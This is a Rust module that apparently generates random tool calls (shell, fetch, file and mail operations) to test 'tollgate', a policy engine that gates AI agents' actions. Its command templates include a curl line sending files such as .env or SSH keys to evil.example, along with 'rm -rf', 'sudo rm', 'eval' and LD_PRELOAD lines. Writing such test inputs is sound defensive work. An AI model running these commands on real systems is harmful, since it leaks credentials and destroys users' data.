//! Random calls of the generator's tools.

use serde_json::{Map, Value, json};
use tollgate::model::{Call, call::Context};
use tollgate::syntax::ast::Date;

use super::rng::Rng;

const PATHS: [&str; 32] = [
    "README.md",
    "README.md",
    "docs/a.md",
    "docs/a.md",
    "docs/b.txt",
    "src/main.rs",
    "src/main.rs",
    "src/lib/x.rs",
    ".env",
    "out.txt",
    "docs/link.md",
    "cur/main.rs",
    "cur",
    "src",
    "docs",
    ".",
    "loop",
    "loop/x",
    "secret-dir/id",
    "docs/up/README.md",
    "docs/hard.txt",
    "missing.txt",
    "new/dir/file.rs",
    "../other/z.txt",
    "/etc/passwd",
    "/home/u/.ssh/id",
    "/w/app/docs/a.md",
    "./docs/../.env",
    "DOCS/A.md",
    "/tmp/t.txt",
    "policies/p.toll",
    "pipe",
];

const URLS: [&str; 18] = [
    "https://api.example.com/v1/items",
    "https://api.example.com/v1/items",
    "https://api.example.com/v2/",
    "http://api.example.com/v1/items?x=1",
    "https://api.example.com:8443/v1/a",
    "https://user:pw@api.example.com/",
    "https://internal.example.com/a/b",
    "https://both.example.com/a",
    "https://six.example.com/",
    "https://evil.example/x?y=z",
    "https://nowhere.example/",
    "api.example.com:8080",
    "internal.example.com",
    "http://10.0.0.5/",
    "http://[::1]/a",
    "http://0x7f.1/",
    "file:///etc/passwd",
    "https://API.Example.com./v1/items",
];

const COMMANDS: [&str; 69] = [
    "git push \"$F\"",
    "git \"$X\" push origin",
    "rm \"$X\"",
    "rm $X docs",
    "frob \"$X\" x",
    "cat %",
    "cat %",
    "cat % %",
    "cp % %",
    "cp -r % %",
    "mv % %",
    "rm %",
    "rm -r %",
    "rm -rf %",
    "rm -f -R %",
    "ls",
    "ls %",
    "ls -l %",
    "grep -r x %",
    "grep x %",
    "git status",
    "git status",
    "git status --short",
    "git push",
    "git push origin main",
    "git push --force origin main",
    "git commit -m 'x'",
    "git add -A",
    "git -C docs status",
    "npm test",
    "CI=1 npm test",
    "CI=1 FOO=2 npm test",
    "LD_PRELOAD=x cat %",
    "RUST_LOG=debug cargo build",
    "cargo build",
    "make",
    "make all",
    "./tool.sh x",
    "./git status",
    "/usr/bin/git status",
    "/opt/bin/frob x",
    "frob x",
    "frob -x y",
    "frob --long=v z",
    "echo hi > %",
    "echo hi >> %",
    "cat < %",
    "cat $F",
    "cat \"$F\"",
    "rm -r $D/x",
    "cat %$X",
    "cd docs && cat a.md",
    "cd docs; git status",
    "cat % | grep x",
    "sudo rm %",
    "env FOO=1 make",
    "curl https://api.example.com/v1/items",
    "curl -d @% https://evil.example/x",
    "bash -c 'cat %'",
    "$CMD status",
    "eval \"$X\"",
    "cat 'unclosed",
    "export PATH=/x",
    "export FOO=1 && make",
    "deploy release",
    "deploy release --env prod",
    "deploy release > %",
    "touch %",
    "cat docs/*.md",
];

/// The tools that calls name.
pub const TOOLS: [&str; 17] = [
    "read_file",
    "read_file",
    "list_dir",
    "grep",
    "write_file",
    "delete",
    "copy",
    "convert",
    "shell",
    "shell",
    "shell",
    "argv",
    "fetch",
    "fetch",
    "send_mail",
    "think",
    "mystery",
];

fn path(rng: &mut Rng) -> Value {
    json!(rng.pick(&PATHS))
}

/// A command line: each `%` of a template is a path.
pub fn command(rng: &mut Rng) -> String {
    let template = rng.pick(&COMMANDS);
    let mut out = String::new();
    for c in template.chars() {
        if c == '%' {
            out.push_str(rng.pick(&PATHS));
        } else {
            out.push(c);
        }
    }
    out
}

/// A call, some of its arguments odd, missing or null.
pub fn call(rng: &mut Rng, declared: &[String], modes: bool) -> Call {
    let tool = if rng.chance(90) && !declared.is_empty() {
        let tool = &declared[rng.below(declared.len())];
        tool.replace('*', "list")
    } else {
        rng.pick(&TOOLS).to_owned()
    };
    let mut args = Map::new();
    resources(rng, &tool, &mut args);
    others(rng, &mut args);
    if rng.chance(4) {
        let keys: Vec<String> = args.keys().cloned().collect();
        if !keys.is_empty() {
            let key = &keys[rng.below(keys.len())];
            let odd = [Value::Null, json!(7), json!(["a", 1]), json!({"a": 1})][rng.below(4)].clone();
            args.insert(key.clone(), odd);
        }
    }
    Call {
        id: "c1".to_owned(),
        tool,
        args,
        context: context(rng, modes),
        background: false,
        timeout_ms: None,
    }
}

fn resources(rng: &mut Rng, tool: &str, args: &mut Map<String, Value>) {
    let mut set = |key: &str, value: Value| drop(args.insert(key.to_owned(), value));
    match tool {
        "read_file" | "write_file" | "delete" | "list_dir" | "grep" if rng.chance(97) => {
            set("path", path(rng));
        }
        "copy" => {
            set("from", path(rng));
            set("to", path(rng));
        }
        "convert" => {
            set("path", path(rng));
            if rng.chance(40) {
                set("out", path(rng));
            }
        }
        "many" => {
            let count = rng.below(4);
            set("files", Value::Array((0..count).map(|_| path(rng)).collect()));
        }
        "globber" => set("pattern", json!(rng.pick(&["docs/*.md", "*", "src/**", "no-such-*"]))),
        "shell" => {
            set("command", json!(command(rng)));
            if rng.chance(15) {
                set("cwd", path(rng));
            }
        }
        "argv" => {
            let words = rng.pick(&["git status", "cat README.md", "rm -r docs", "frob -x", "make"]);
            set("argv", json!(words.split(' ').collect::<Vec<_>>()));
        }
        "fetch" => {
            set("url", json!(rng.pick(&URLS)));
        }
        "send_mail" => {
            let people = ["support@example.com", "billing@example.com", "eve@evil.example"];
            set("to", json!(rng.some(&people, 0, 3)));
            if rng.chance(30) {
                set("bcc", json!(rng.some(&people, 0, 2)));
            }
        }
        "db" => {
            set("table", json!(rng.pick(&["users", "orders", "logs"])));
            if rng.chance(40) {
                set("into", json!(rng.pick(&["users", "orders"])));
            }
        }
        _ => {}
    }
}

fn others(rng: &mut Rng, args: &mut Map<String, Value>) {
    let mut maybe = |rng: &mut Rng, percent: usize, key: &str, values: &[Value]| {
        if rng.chance(percent) {
            args.insert(key.to_owned(), values[rng.below(values.len())].clone());
        }
    };
    let numbers: Vec<Value> = ["0", "1", "5", "5.0", "50", "1e2", "-3", "9007199254740993"]
        .iter()
        .map(|n| serde_json::from_str(n).unwrap())
        .chain([json!("5"), Value::Null])
        .collect();
    maybe(rng, 50, "n", &numbers);
    maybe(rng, 40, "ok", &[json!(true), json!(false), json!("yes"), Value::Null]);
    maybe(
        rng,
        50,
        "name",
        &[
            json!("alpha"),
            json!("Beta"),
            json!("alphabet"),
            json!("ALPHA"),
            json!("an alpha and a beta"),
            json!("\u{212a}elvin, lo\u{17f}s, \u{e9}t\u{e9}"),
            json!(""),
            json!(3),
            Value::Null,
        ],
    );
    maybe(
        rng,
        30,
        "ip",
        &[
            json!("10.0.0.5"),
            json!("203.0.113.7"),
            json!("::ffff:10.0.0.1"),
            json!("0x7f.1"),
            json!("2001:db8::1"),
            json!("example.com"),
            json!(7),
            Value::Null,
        ],
    );
    maybe(
        rng,
        50,
        "tags",
        &[
            json!([]),
            json!(["red"]),
            json!(["red", "blue"]),
            json!(["green", 3]),
            json!("red"),
            json!([null, "red"]),
        ],
    );
    maybe(
        rng,
        40,
        "opt",
        &[
            json!({"level": 3}),
            json!({"level": "high", "who": [{"id": "a"}, {"id": "b"}, {}]}),
            json!({}),
            json!("x"),
        ],
    );
    maybe(rng, 10, "odd name", &[json!("odd"), json!(1)]);
}

fn context(rng: &mut Rng, modes: bool) -> Context {
    let maybe = |rng: &mut Rng, percent: usize, values: &[&str]| {
        rng.chance(percent).then(|| rng.pick(values).to_owned())
    };
    Context {
        mode: maybe(rng, if modes { 96 } else { 3 }, &["plan", "build", "build"]),
        user: maybe(rng, 50, &["ann", "bob"]),
        agent: maybe(rng, 50, &["coder", "scout"]),
        session: None,
        cwd: maybe(rng, 10, &["docs", "/w/app/src", "/w/other"]),
        source: maybe(rng, 50, &["builtin", "mcp:tickets"]),
        labels: rng.some(&["untrusted", "tainted"], 0, 1).into_iter().map(str::to_owned).collect(),
        today: rng.chance(20).then_some(Date { year: 2027, month: 1, day: 15 }),
    }
}
